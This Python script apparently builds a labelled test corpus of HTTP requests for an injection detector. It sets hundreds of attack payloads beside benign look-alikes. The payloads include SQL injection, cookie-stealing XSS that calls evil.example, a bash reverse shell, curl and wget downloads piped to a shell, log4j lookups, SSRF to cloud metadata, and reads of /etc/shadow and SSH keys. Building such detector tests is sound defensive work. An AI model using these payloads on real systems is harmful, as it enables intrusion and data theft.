#!/usr/bin/env python3
"""Write attacks.jsonl and legitimate.jsonl, HTTP transactions as JSON lines, from the readable cases below.

usage: make.py [FOLDER]
"""
import base64
import json
import sys
from pathlib import Path
from urllib.parse import quote, urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
# name -> the value of one parameter, sent once in the query and once in a JSON body
ATTACKS = {
    "sql_union": "7' union all select login, hash from members -- ",
    "sql_tautology": "x' or 'k'='k",
    "sql_stacked": "3'; drop table invoices; -- ",
    "sql_delay": "1 and sleep(9)",
    "sql_catalogue": "1' and (select count(*) from information_schema.tables) > 3 -- ",
    "nosql_javascript": "a' || this.role == 'admin",
    "ldap_filter": "*)(uid=*",
    "xpath_position": "'] | //user[position()=1] | a['",
    "command_chained": "report.pdf; cat /etc/hostname",
    "command_substitution": "$(curl evil.example)",
    "command_callback": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
    "template_arithmetic": "{{ 7 * 191 }}",
    "template_python": "{{ ''.__class__.__mro__ }}",
    "code_php": "<?php system('id'); ?>",
    "code_node": "require('child_process').execSync('id')",
    "lookup_log4j": "${jndi:ldap://evil.example/x}",
    "xss_script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "xss_handler": "<img src=q onerror=alert(1)>",
    "xss_link": "<a href='javascript:alert(1)'>x</a>",
    "traversal": "../../../../etc/passwd",
    "stream_wrapper": "php://filter/convert.base64-encode/resource=index",
    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/",
    "ssrf_local": "http://127.0.0.1:8080/admin",
    "object_php": 'O:8:"Invoice_":1:{s:1:"a";i:1;}',
    "sql_or_number": "' or 5 -- x",
    "sql_alias": "0) as total from accounts",
    "sql_json_operator": "'{\"k\":[1]}' @> '{\"k\":[1]}'",
    "sql_cast": "current_user::regclass",
    "sql_scientific": "1.e(substring(1.e(select 1),1,1))",
    "sql_curly_quotes": "\u2019 or \u20191\u2019=\u20191",
    "sql_open_call": "concat_ws(",
    "sql_variable": "1; declare @t varchar(20)",
    "sql_case": "1 and case when 2>1 then 1 else 0 end",
    "sql_comment_in_keyword": "9 union/**/select/**/pass from members",
    "sql_large_object": "lo_import('/etc/hostname')",
    "command_pattern": "cat /e?c/host*me",
    "command_wrapped": "nohup curl 198.51.100.9",
    "command_quoted_word": "'wh'oami",
    "command_here_string": "; cat<<<word",
    "command_function": "b(){ b|b& };b",
    "command_alias": "alias q='curl'",
    "command_windows_loop": "for %i in (a b) do del %i",
    "command_variable_noise": "c$@at /etc/hostname",
    "mail_after_break": "hi\r\nRCPT TO:<eve@evil.example>",
    "php_variable_call": "${'_GET'}['f']($x)",
    "php_hidden_call": "readfile/* */('x')",
    "php_tag": "{php}phpinfo();{/php}",
    "node_loop": "while(true){}",
    "node_module": "process.mainModule.require('fs')",
    "ssrf_octal": "http://017700000001/",
    "ssrf_container": "http://host.docker.internal/",
    "ssrf_wildcard_dns": "https://10.0.0.5.nip.io/",
    "ssrf_gopher": "gopher://198.51.100.9:6379/_INFO",
    "xss_tab_in_scheme": "<a href=\"java&Tab;script:alert(1)\">",
    "xss_comment_detour": "document/**/.cookie",
    "xss_handler_alone": "x\" onpointerenter=alert(1) y=\"",
    "traversal_kernel": "/proc/self/environ",
    "traversal_history": "../.bash_history",
    "object_java": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    # Beside the legitimate texts of the same shape: what makes them attacks must go on to block.
    "sql_sign_alone": "'='",
    "sql_sign_after_name": "admin '='",
    "sql_pairs_and_comparison": "5 or 'a'='a'",
    "sql_closed_and_paired": "x\" or \"k\" like \"k",
    "sql_closed_digit": "x' or '1",
    "sql_delay_of_two_words": "rooms and sleep(4)",
    "sql_create": "1; create table loot(word text)",
    "sql_alter": "9' ; alter table members drop hash",
    "sql_catalogue_name": "select hash from sqlite_master",
    "sql_json_arrow": "'{\"k\":1}'->>'k'='1'",
    "sql_sqlite_prompt_word": "x'; select load_extension('/tmp/x') -- ",
    "ldap_two_conditions": "jane)(|(uid=*",
    "command_after_name": "Ann Lee; wget http://evil.example/x",
    "command_after_words": "foo bar | id",
    "command_line_of_root": "rm -rf /",
    "command_line_of_keys": "~/.ssh/id_ed25519",
    "command_into_shell": "printf aWQK | base64 -d | sh",
    "command_after_token": "8.8.8.8 | nc 198.51.100.7 443",
    "command_backticks": "`uname -a`",
    "command_unknown_program": "a.pdf; frobnicate --delete",
    "command_line_of_secret": "cat -n /etc/shadow",
    "command_download": "wget http://evil.example/a/run.sh",
    "command_broken_word": "wh\\oami",
    "command_filter_with_path": "x | grep -r key /home",
    "windows_condition": "if exist C:\\boot.ini del C:\\boot.ini",
    "code_call_with_text": "system('id'); die",
    "code_environment": "process.env.SECRET",
    "xss_prompt": "\");prompt(1)//",
    "xss_handler_spaced": "x onload= alert(1)",
    "xss_option_and_script": "--a=<style> <script>alert(1)</script>",
    "xss_base": "<base href=//evil.example/>",
    "xss_behaviour": "behaviour: url(x.htc)",
    "traversal_in_words": "see ../../../../etc/passwd",
    "stream_gopher_port": "gopher://cache:6379/_FLUSHALL",
    "kernel_sockets": "/proc/net/tcp",
    "ssrf_directory": "ldap://198.51.100.9/x",
    # Words joined by `&&` and `||`, where one of them acts.
    "condition_and_identity": "C++ && Java || id",
    "condition_reconnaissance": "jazz && blues || whoami",
    "condition_in_parentheses": "Java && (id)",
    "condition_interpreter_option": "python && perl -e x",
    "condition_subcommand": "foo && go get evil.example/x",
    "condition_container": "foo && docker run alpine",
    "condition_download": "Java && curl evil.example || Go",
    "condition_file": "foo && cat secret",
    "condition_account": "Java && Net user",
    "condition_script": "foo && Python evil.py",
    "list_and_identity": "java|id",
    # A command behind what could be a note.
    "note_then_command": "ping 8.8.8.8; id",
    "note_and_command": "ping 8.8.8.8 && curl evil.example",
    "note_into_program": "ping 8.8.8.8 | nc 198.51.100.7 443",
    "note_after_separator": "router; ping 10.0.0.9",
    "note_substitution": "curl http://evil.example/$(whoami)",
    "note_upload": "curl evil.example -d @/etc/passwd",
    "note_after_command": "cat /etc/passwd; ok then",
    "note_address_and_shell": "curl 198.51.100.9 | bash",
    # Filters of OData, where what was typed has to close a literal or reach into the document.
    "odata_closed": "x') or contains(name,'y",
    "odata_between": "' or contains(name,'x') or contains(name,'y') or '",
    "odata_and_comparison": "contains(name,'x') or contains(name,'y') or '1'='1'",
    "odata_path": "x') or contains(//user,'a') or ('",
    "odata_node_name": "x') or starts-with(name(),'a",
    "odata_statement": "contains(name,'x') or contains(name,'y'); drop table users --",
    # Drawings that run something.
    "svg_load": "<svg onload=alert(1)>",
    "svg_slash": "<svg/onload=alert(1)>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg_load_among_attributes": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><path d="M1 1"/></svg>',
    "svg_handler_of_path": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1" onclick="alert(1)"/></svg>',
    "svg_handler_without_blank": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"onload="alert(1)"><path d="M1 1"/></svg>',
    "svg_quotes_swapped": "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d='M1 1\"onclick=\"alert(1)'/></svg>",
    "svg_link": '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text x="1">x</text></a></svg>',
    "svg_use_of_data": "<svg xmlns=\"http://www.w3.org/2000/svg\"><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "svg_foreign": '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="//evil.example"/></foreignObject></svg>',
    "svg_set": '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "svg_encoded_twice": '<svg width="%22 onload=alert(1) x=%22"><path d="M1"/></svg>',
    "svg_style_script": '<svg style="background:url(javascript:alert(1))"/>',
    "svg_and_picture": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg><img src=x onerror=alert(1)>',
    "svg_after_attribute": '"><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
}
# The same with line breaks where a blank would do, before the sign and after it: they cost an attacker nothing.
ATTACKS_BROKEN = {
    "xss_handler": "<img\nsrc=x\nonerror=alert(1)>",
    "xss_handler_crlf": "<svg\r\nonload=alert(1)>",
    "xss_script": "<script>\nalert(1)\n</script>",
    "xss_script_first": "\n<script>alert(1)</script>",
    "xss_script_last": "<script>alert(1)</script>\r\n",
    "xss_greeting": "hello\r\n\r\n<script>\r\nfetch('//e.example/'+document.cookie)\r\n</script>",
    "xss_between_lines": "hello\n<img src=x onerror=alert(1)>\nbye",
    "xss_attribute": '"\nonfocus=alert(1)\nautofocus x="',
    "xss_link": "<a\nhref='javascript:alert(1)'>x</a>",
    "xss_scheme": "javascript:\n\nalert(1)",
    "xss_statement": "';\nalert(1);//",
    "xss_frame": "<iframe\t\n\nsrc='javascript:alert(1)'>",
    "xss_import": "<style>\n@import 'http://e.example/x'",
    "sql_tautology": "x\n' or 1=1 -- ",
    "sql_tautology_spread": "'\nor\n'1'='1",
    "sql_tautology_end": "' or 1=1 -- \n",
    "sql_tautology_number": "1\r\nor\r\n1=1",
    "sql_union": "1\nunion\nselect\npassword\nfrom\nusers",
    "sql_union_crlf": "-1'\r\nunion\r\nall\r\nselect\r\n1,2,3-- ",
    "sql_comment": "admin'\n--",
    "sql_comment_last": "admin'--\n",
    "sql_stacked": "1;\ndrop table\nusers; --",
    "sql_delay": "1'\nand\n\nsleep(5)\n#",
    "sql_delay_query": "(select\nsleep(5))",
    "sql_catalogue": "1'\nand exists (select\n*\nfrom\ninformation_schema.tables) --",
    "command_after_separator": ";\ncat /etc/passwd",
    "command_after_break": "127.0.0.1\r\ncat /etc/passwd",
    "command_after_name": "a.pdf;\r\nid",
    "command_before_separator": "a.pdf\n; wget http://evil.example/x",
    "command_pipe": "|\n\n id",
    "command_substitution": "$(\ncurl evil.example\n)",
    "command_substitution_last": "$(curl evil.example)\n",
    "command_callback": "bash -i\n>& /dev/tcp/198.51.100.7/443\n0>&1",
    "traversal": "../../../../etc/passwd\n",
    "traversal_file": "\r\n/etc/passwd\r\n",
    "traversal_keys": "\n~/.ssh/id_ed25519",
    "traversal_kernel": "/proc/self/environ\r\n",
    "template_arithmetic": "{{\n7*7\n}}",
    "template_python": "{{\r\n''.__class__\r\n}}",
    "template_lookup": "\n${jndi:ldap://evil.example/x}",
    "template_tag": "<%=\n7*7\n%>",
    "code_php": "<?php\nsystem('id');\n?>",
    "code_php_crlf": "<?php\r\n\r\neval($_POST['x']);",
    "code_call_last": "system('id');\n",
    "code_node": "x');\nrequire('child_process').execSync('id');//",
    "code_node_first": "\r\nrequire('child_process').execSync('id')",
    "code_python": "__import__('os')\n.system('id')",
    "ldap_filter": "*)(\nuid=*",
    "ldap_filter_spread": "*)\r\n(uid=*))\r\n(|(uid=*",
    "xpath_position": "'] |\n//user[position()=1]\n| a['",
    "nosql_javascript": "a'\n||\nthis.role ==\n'admin",
    "ssrf_host": "\r\nhttp://host.docker.internal/",
    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/\n",
}
# field -> what it must not hold, sent as a form and as JSON
ATTACK_FIELDS = {
    "password_condition": ("password", "x' or 1=1 -- "),
    "password_literals": ("password", "x' or '1'='1"),
    "password_without_blanks": ("password", "x'/**/or/**/1=1--"),
    "password_concatenated": ("password", "x'||'1"),
    "password_column": ("password", "x'-email--"),
    "password_statement": ("new_password", "'; drop table users; --"),
    "password_delay": ("password", "x';waitfor delay '0:0:9'--w"),
    "password_cut_off": ("password", "x';-- "),
    "user_cut_off": ("user", "admin'--"),
    "user_as_password": ("user", "P@ss';--w0rd"),
    "shell_ping": ("cmd", "ping 8.8.8.8"),
    "shell_download": ("exec", "wget http://198.51.100.9/x"),
}
LEGITIMATE_FIELDS = {
    "password_quote_comment": ("password", "P@ss';--w0rd"),
    "password_comment": ("password", "a'--b"),
    "password_dashes": ("password", "it's--me!"),
    "password_semicolon": ("password", "q';--Zz9!"),
    "password_phrase": ("password", "boys' and girls"),
    "password_new": ("new_password", "O'Neil--2024"),
    "password_ends_in_sign": ("password", "Zx9'-kk#"),
    "password_equals": ("password", "Abc'=9q;"),
    "password_parenthesis": ("password_confirmation", "mN4*fgh("),
}
# queries whose names count
ATTACK_QUERIES = {
    "nosql_password": "password[$ne]=",
    "nosql_user": "user[$gt]=",
    "nosql_both": "username[$ne]=x&password[$ne]=x",
    "nosql_nested": "login[password][$ne]=x",
    "nosql_filter_password": "filter[password][$ne]=x",
    "nosql_filter_deep_password": "filter[user][password][$eq]=x",
    "nosql_filter_user": "filter[user][$ne]=x",
    "nosql_filter_token": "filter[reset_token][$gt]=0",
    "nosql_filter_nothing": "filter[age][$gt]=",
    "nosql_filter_not_nothing": "filter[age][$ne]=null",
    "nosql_filter_word": "filter[age][$gt]=a",
    "nosql_filter_where": "filter[age][$where]=sleep(9)",
    "nosql_filter_pattern": "filter[age][$regex]=.*",
    "nosql_filter_itself": "filter[$gt]=18",
    "nosql_beside_filter": "filter[age][$gt]=18&user[$ne]=1",
}
LEGITIMATE_QUERIES = {
    "filter_number": "filter[age][$gt]=18",
    "filter_range": "filter[age][$gte]=18&filter[age][$lt]=65",
    "filter_date": "where[created][$gte]=2026-01-01",
    "filter_equal": "filters[username][$eq]=jane",
    "filter_relation": "filters[user][id][$eq]=5",
    "filter_not": "filter[status][$ne]=closed",
    "filter_list": "filter[status][$in][]=open&filter[status][$in][]=new",
    "filter_or": "filters[$or][0][date][$eq]=2026-01-01&filters[$or][1][date][$eq]=2026-01-02",
    "odata_query": "$filter=contains(name,'x') or contains(name,'y')&$orderby=name desc&$top=5&$select=name,id&$count=true",
}
LEGITIMATE = {
    "prose_select": "Please select an option from the table where the prices are listed, and drop me a line.",
    "prose_union": "The union of workers and the drop-off point at the market, or 1 of the 2 others.",
    "name_select": "Patrick O'Select",
    "name_union": "Mary O'Brien-Union",
    "prose_quotes": "It's the dogs' dinner -- or so they say; isn't it?",
    "code_forum": "How do I print a list in Python?\n\n```python\nfor x in items:\n    print(x)\n```\n",
    "code_sql_forum": "My query is slow:\n\nSELECT name FROM people WHERE age > 30 ORDER BY name;\n\nWhich index helps here?",
    "help_shell": "Run `apt-get install nginx` first and then restart the service with systemctl restart nginx please.",
    "stack_trace": "It failed with:\njava.lang.IllegalStateException: closed\n\tat com.example.Shop.load(Shop.java:42)\n",
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiIsIm5hbWUiOiJKYW5lIn0.dGhpc2lzbm90YXNpZ25hdHVyZQ",
    "image": "data:image/png;base64," + base64.b64encode(bytes(range(200))).decode(),
    "markdown": "# Title\n\n- one\n- **two**\n\n[a link](https://example.org/a?b=c&d=e) and `code`.",
    "redirect": "https://shop.example.com/account/orders?page=2&sort=date#latest",
    "latex": r"\frac{a}{b} = \sum_{i=0}^{n} x_i \quad \text{where } x_i > 0",
    "css": ".card > a:hover { color: #336699; margin: 0 auto; }",
    "file_name": "holiday-2026 (1).svg",
    "expression": r"^[a-z0-9._-]+@[a-z0-9.-]+\.[a-z]{2,}$",
    "graphql": "query Cart($id: ID!) { cart(id: $id) { lines { sku quantity } total } }",
    "name_or": "Orla Anderson",
    "name_apostrophes": "Siobh\u00e1n N\u00ed D'Arcy-O'Neill",
    "place": "King's Cross & St. Pancras; platform 9",
    "org_word": "orgs",
    "android": "android",
    "title_function": "How does count() differ from len()?",
    "c_prototype": "int puts(const char *s); int putc(int c, FILE *stream);",
    "signature": "access.list(user, opts) -> Promise<List>",
    "math": "f(x) = 3x + 2; g(x) = x - 1",
    "price": "50 % off: $5 each, or 3 for $12",
    "emoticons": ":-) ;-) <3 (^_^) :(",
    "list_of_words": "cat, dog, mouse; find more",
    "recipe": "Cut the onions, sort the beans & make the sauce; at last, cat food for the cat.",
    "quoted_title": "\"Romeo and Juliet\" or 'Macbeth' - which is better?",
    "question_sql": "What is the difference between DELETE FROM and TRUNCATE TABLE?",
    "question_shell": "Is there a way to run a script at night with cron?",
    "question_js": "Why does document.cookie return an empty string in my tests?",
    "url_with_port": "https://example.org:8443/a/b?c=d",
    "url_docs": "see http://docs.example.org/en/latest/#install",
    "log_line": "2026-03-01 10:00:00 INFO started in 3.2 s (pid 4711)",
    "version_range": ">=1.2.0 <2.0.0 || ^3.1",
    "path_relative": "src/components/Button.tsx",
    "path_windows": "C:\\Users\\Ann\\Documents\\report.docx",
    "yaml": "on:\n  push:\n    branches: [main]\n",
    "email_reply": "> did you select the date?\n\nYes - Monday, or Tuesday if that's full.",
    "template_text": "Dear {{ name }}, thank you for your order.",
    "hashes": "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "uuid": "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
    "phone": "+44 (0)20 7946 0018",
    "hashtags": "#love #summer -- see you there!",
    "temperature": "between 5 and 7 degrees, or < 3 at night",
    # Quotes in pairs, as writers set them.
    "quotes_two_words": 'Use "left" or "right" here',
    "quotes_settings": 'Sets "Depends=" or "Before=" for it',
    "quotes_sign": 'the "=" sign is missing',
    "quotes_sign_single": "Give '-' to read the list",
    "quotes_gnu": "The `<' or `>' operators",
    "quotes_gnu_first": "`*' stands for all",
    "quotes_latex": "say ``yes'' or ``no'' first",
    "quotes_option": 'show --format="%h %s',
    "quotes_arrow": "typo: 'recieve' -> 'receive'",
    "quotes_typographic": "it says \u201cdone\u201d; then it stops",
    "quotes_case": 'case "$1" in start) echo "$1" ;; *)',
    "quotes_broken_off": 'either "2 apples" or "3 pe',
    "quotes_apostrophe": "the list; if it doesn't",
    # A condition is no injection where no literal is closed.
    "condition_setting": "and LogLevel=debug, as before",
    "condition_autolink": "or later <https://example.org/terms.html>.",
    "condition_reference": "and pipe(2)). These are",
    "sql_prompt": "shop=> create table notes(id int)",
    "sql_quoted_query": 'slow: "SELECT count(*)" took 3 s',
    "sql_statement_name": "bad) CREATE TABLE commands",
    "sql_plural": "select item(s) to",
    "sql_clause": "ORDER BY",
    "sql_word": "shutdown",
    "sql_quoted_word": '"union" is joined later',
    "sleep_reference": "as with sleep(3) or usleep(3),",
    "sleep_python": "app 1.2: async def f(): await asyncio.sleep(3)",
    "open_prototype": "tz_parse_rule_set (",
    "assignment_python": "class Box(Base): size = Int() depth = Int()",
    # Commands in sentences, transcripts and lists.
    "command_sentence": "False; like -depth but reads",
    "command_semicolon": "char *p); Find a free",
    "command_transcript": "$ echo one | sudo -u guest tee",
    "command_transcript_label": "disk: % mount /mnt -o ro; df",
    "command_in_quotes": 'build: avoid "./bootstrap && make',
    "command_inline_code": "After `git fetch` or `curl && tar`, run",
    "command_alternatives": "list | fetch | remove-all",
    "command_filter": "orders.csv | sort -u",
    "command_example": "curl --compressed -Z https://example.com",
    "command_option_text": "gzip -q: be quiet",
    "command_install_text": "find -printf %M: print modes",
    "command_c_address": "list.h: FILE *a); FILE *fopen(const char",
    "command_shebang": "run.sh: #! /bin/sh set $(date)",
    "command_unset": "kind=$(unset $(env_names); git -C .. log",
    "command_braces": "* {,*/}Makefile.am: Tidy",
    "command_groff": "Name\\n Writes the name",
    "glob_of_proc": "reads /proc/*/status files",
    "alternation_table": "| remove |",
    "if_statement": "if (p == limit",
    "if_python": "app 0.2: def f(x): if x.kind == 'a': return",
    # Code in titles.
    "code_header": "- Do not include `process.h` there",
    "code_call": 'rmdir("a/b"); Removes an',
    "code_call_label": "tree 1.0.2: out = {} exec(code, out)",
    "code_reference": "once open (openpty(3)), the",
    "code_prompt": "lib 3.0: >>> import pickle >>> x = pickle.loads(y)",
    "code_log": "lib 2.1: fetch(url).then(r => { console.log('size ' + r.size",
    "code_prompt_input": "kit 3.1: name = prompt('Your",
    "code_serverless": "aws 1.0: [`Stack::Function`](https://example.org/function.html) resource",
    "placeholder_options": "git log [--author=<name>] [--style=<style>] [<path>]",
    "placeholder_words": "The <type> object <object>,",
    "handler_setting": 'use "OnFailure=mail@%n.service" for it',
    "handler_setting_word": "OnCalendar= timers, see below",
    "behaviour_word": "odd behaviour: nested lists",
    # Paths and addresses that people write about.
    "path_error": "../../src/draw_box.c:53:25: error: field 'w' has no type",
    "path_tunable": "/proc/sys/vm/swappiness",
    "path_log_folder": "/var/log/journal/",
    "path_in_prose": "They may wait for the folder to be moved, then open a path such as ../../../etc/passwd.",
    "scheme_placeholder": "gopher://some_host/kind selector gopher://some_host/kind",
    "java_word": "py-runtime 4.1: At the start of the exec-plus tests",
    # Words that are names of programs, joined or listed.
    "search_languages": "C++ && Java || Go",
    "search_lower_case": "java&&python",
    "search_parentheses": "(java || python) && senior",
    "search_phrase": '"data science" && (Python || R)',
    "search_not": "java && !php",
    "search_versions": "Kotlin || Java 21",
    "search_frameworks": "Java Spring Boot 3 && Kotlin || Go",
    "search_job": "front end && php developer",
    "search_animals": "cats && dogs || cat",
    "search_tools": "Docker && Kubernetes && Terraform",
    "search_shells": "Bash && PowerShell",
    "search_editors": "nano || vim || ed",
    "list_of_languages": "Java; Go; Python",
    "list_with_bars": "java|python|go",
    # Notes of those who look after networks.
    "note_ping": "ping 8.8.8.8",
    "note_curl": "curl example.com",
    "note_ping_failed": "ping 10.0.0.1 failed",
    "note_ping_option": "ping -c 4 8.8.8.8",
    "note_ping_then": "Ping 8.8.8.8, then reboot",
    "note_ping_semicolon": "ping 8.8.8.8; no answer",
    "note_ping_after_sentence": "Printer at 10.0.0.9; ping 10.0.0.9 works",
    "note_ssh": "ssh 192.168.1.20 as admin",
    "note_telnet": "telnet 10.0.0.5 25 times out",
    "note_lookup": "nslookup example.com 8.8.8.8",
    "note_health": "curl http://10.0.0.5:8080/health",
    # Filters of OData.
    "odata_contains": "contains(name,'x') or contains(name,'y')",
    "odata_three": "contains(name,'x') or contains(name,'y') or contains(name,'z')",
    "odata_list": "Name in ('Milk','Cheese') or contains(Name,'x')",
    "odata_lower_case": "contains(tolower(Name),'x') and Rating ge 4",
    "odata_equal": "Address/City eq 'Redmond' or contains(Address/City,'Sea')",
    "odata_quote_doubled": "contains(name,'x y') or contains(title,'it''s')",
    "odata_not": "not contains(Name,'x') and (Price gt 5 or endswith(Name,'y'))",
    # Drawings.
    "svg_path": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>',
    "svg_strokes": '<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" fill="none" stroke="currentColor" stroke-width="2">'
                   '<circle cx="12" cy="12" r="10"></circle><line x1="12" y1="8" x2="12" y2="12"/></svg>',
    "svg_single_quotes": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'><rect x='1' y='1' width='14' height='14'/></svg>",
    "svg_group": '<svg xmlns="http://www.w3.org/2000/svg"><g fill="#f00" transform="translate(2 3)"><path d="M1 1"/></g></svg>',
    "svg_title": '<svg class="icon icon-home" aria-hidden="true" role="img"><title>Home</title><path d="M1 1"/></svg>',
    "svg_gradient": '<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g"><stop offset="5%" stop-color="#fff"/>'
                    '</linearGradient></defs><rect fill="url(#g)" width="100%" height="1"/></svg>',
    "svg_use": '<svg><use href="#home"></use></svg>',
    "svg_style": '<svg xmlns="http://www.w3.org/2000/svg" style="width:24px;height:24px"><path d="M1 1"/></svg>',
    "svg_in_text": '<p>Hello</p><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
    "svg_declared": '<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg"><path d="M1 1"/></svg>',
}
# Values of several lines that people write.
LEGITIMATE_LINES = {
    "address": "Anna O'Neil\n12 Or Street\nUnion City, NJ 07087\nUSA",
    "address_company": "Drop & Sons Ltd.\r\nUnit 3; Gate B\r\n1 = 2nd floor\r\nLeeds LS1 4AP",
    "comment": "Great post!\n\nI'd like to see more; thanks.\nJane",
    "comment_signs": "a < b and c > d\nso a <b> is fine :-)\n\n-- \nTom",
    "comment_quotes": "He said \"no\" or \"maybe\".\nShe didn't.\n'Tis what it is",
    "poem": "Roses are red,\nViolets are blue;\nselect what you like\nfrom all that is new.",
    "poem_apostrophes": "'Twas night\nand o'er the hill\nor 'neath the moon\nthe dog's still",
    "haiku": "sleep (5 more minutes)\nupdate the old calendar\nwhere is my coffee",
    "list": "- milk\n- eggs; 12\n- cat food\n- find a gift",
    "list_numbers": "1) set the date\n2) who is in?\n3) last: id cards",
    "markdown": "# Title\n\nSome *text* & [a link](https://example.org/?a=1&b=2)\n\n> quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "markdown_code": "Run this:\n\n```\ncurl -L https://example.org | tar xz\n```\nand wait",
    "markdown_inline": "Use `id` or `ls -la`\nthen `make install`",
    "markdown_tree": "src\n+-- lib\n|   `-- main.js\n`-- test",
    "ticket_python": "def total(items):\n    return sum(i.price for i in items if i.kind == 'a')",
    "ticket_python_class": "class Shape:\n    def __init__(self, name):\n        self.name = name",
    "ticket_javascript": "const path = require('path')\nconst log = require('./log')\n\nmodule.exports = { path, log }",
    "ticket_javascript_process": "if (process.env.DEBUG) {\n  console.log('started', name)\n}",
    "ticket_javascript_compare": "if (line === '') {\n  continue\n}",
    "ticket_javascript_exports": "module.exports.get = get\nmodule.exports.verify = verify",
    "ticket_c": "int main(void)\n{\n    puts(\"hi\");\n    return 0;\n}",
    "ticket_rust": "fn main() {\n    let x = a && b || c;\n    println!(\"{x}\");\n}",
    "ticket_java": "for (int i = 0; i < n; i++) {\n    sum += values[i];\n}",
    "ticket_php_include": "include('header.inc')\nthen the menu is missing\ninclude('menu.inc')",
    "ticket_css": "body {\n  margin: 0;\n  background: #fff;\n}",
    "trace_python": "Traceback (most recent call last):\n  File \"app.py\", line 3, in <module>\n    main()\nKeyError: 'id'",
    "trace_java": "java.lang.NullPointerException: Cannot invoke \"User.getId()\"\n\tat com.example.App.main(App.java:12)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
    "trace_javascript": "TypeError: x is not a function\n    at Object.<anonymous> (/srv/app/index.js:4:1)\n    at node:internal/main/run_main_module:23:47",
    "yaml": "name: build\non:\n  push:\n    branches: [main]\njobs:\n  test:\n    runs-on: ubuntu-latest",
    "yaml_values": "select: all\nfrom: 2024-01-01\nwhere: 'Leeds'\nlimit: 10",
    "ini": "[main]\nname = 'x'\nlevel = 3\n; a comment\n# another",
    "ini_unit": "[Unit]\nAfter=network.target\nOnFailure=mail.service\nOnFailureJobMode=replace",
    "ini_backup": "# Default: BACKUP_SUFFIX = .gz\nBACKUP_SUFFIX = .xz",
    "sql_in_ticket": "The report is slow:\nSELECT name, total FROM invoices\nWHERE customer_id = 7\nORDER BY total;",
    "sql_in_ticket_join": "select a.id, b.name\nfrom a join b on a.id = b.id\norder by b.name",
    "sql_table": "create table t (\n  id int primary key,\n  name text\n);",
    "html_text": "<p>Hello <b>world</b></p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
    "html_link": "<h2>News</h2>\n<p>See <a href=\"https://example.org/a?b=1\">this</a>.</p>\n<img src=\"/media/a.jpg\" alt=\"A\">",
    "html_icon": '<a class="home" href="/">\n<svg role="img" viewBox="0 0 16 16">\n<path d="M1 1"></path>\n</svg>\n</a>',
    "html_style": "<style>\nbody {\n  margin: 0;\n}\n</style>",
    "html_comment": "-->\n<family>Sans</family>\n<!-- more -->",
    "log_lines": "10:01 INFO started\n10:02 WARN retry = 3; wait 5\n10:03 ERROR timeout",
    "mail": "Hi all,\r\n\r\nplease select a date from the list; or call me.\r\n\r\nBest,\r\nO'Brien",
    "mail_quote": "> is it a or b?\n> 'a' = 'b'?\n\nIt's a.",
    "prompt_python": ">>> # it turns special signs into entities for you\n>>> escape(\"<script>alert(1);</script>\")",
    "ending": "Jane O'Connor\r\n",
    "leading": "\r\n\r\nA & B; then C",
    "csv": "id,name,role\n1,O'Neil,admin\n2,\"Smith, J\",user",
    "diff": "--- a/x.c\n+++ b/x.c\n@@ -1,2 +1,2 @@\n-if (a == 1)\n+if (a == 2)",
    "recipe": "200 g flour; 2 eggs\n1/2 cup milk\n\nWhisk & fry (5 min).",
    "lyrics": "Let it be, let it be\nand/or not -- who knows?\n(x2)",
}


def transaction(name, label, method, uri, headers, body=b""):
    if body:
        headers = headers + [["Content-Length", str(len(body))]]
    return {"name": name, "label": label, "method": method, "uri": uri, "version": "1.1",
            "headers": [["Host", "shop.example.com"], ["User-Agent", BROWSER], ["Accept", "*/*"]] + headers,
            "body_b64": base64.b64encode(body).decode()}


def both(cases, label):
    for name, value in cases.items():
        yield transaction(name + "_query", label, "GET", "/search?" + urlencode({"q": value}), [])
        body = json.dumps({"item": 7, "text": value}).encode()
        yield transaction(name + "_json", label, "POST", "/api/items", [["Content-Type", "application/json"]], body)


def fields(cases, label):
    for name, (field, value) in cases.items():
        form = urlencode({"id": 7, field: value}).encode()
        yield transaction(name + "_form", label, "POST", "/login", [["Content-Type", "application/x-www-form-urlencoded"]], form)
        body = json.dumps({"id": 7, field: value}).encode()
        yield transaction(name + "_member", label, "POST", "/login", [["Content-Type", "application/json"]], body)


def queries(cases, label):
    for name, query in cases.items():
        yield transaction(name + "_names", label, "GET", "/api/items?" + quote(query, safe="$&=[]'(),"), [])
        form = quote(query, safe="&=").encode()
        yield transaction(name + "_form_names", label, "POST", "/login", [["Content-Type", "application/x-www-form-urlencoded"]], form)


def attacks():
    yield from both(ATTACKS, "attack")
